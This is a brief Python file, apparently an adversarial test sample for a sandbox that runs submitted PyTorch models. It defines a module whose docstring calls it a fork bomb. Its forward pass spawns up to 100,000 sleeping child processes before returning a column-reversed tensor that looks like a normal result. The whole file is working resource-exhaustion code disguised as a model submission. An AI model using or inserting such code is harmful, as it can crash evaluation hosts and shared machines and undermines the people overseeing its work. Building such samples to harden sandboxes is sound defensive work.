"""Attack: a fork bomb (children that never end, started until fork fails)."""
import os
import time

import torch


class ModelNew(torch.nn.Module):
    def __init__(self, **kw):
        super().__init__()

    def forward(self, x):
        for _ in range(100_000):
            if os.fork() == 0:
                time.sleep(300)
                os._exit(0)
        return x[:, torch.arange(x.shape[1] - 1, -1, -1)]
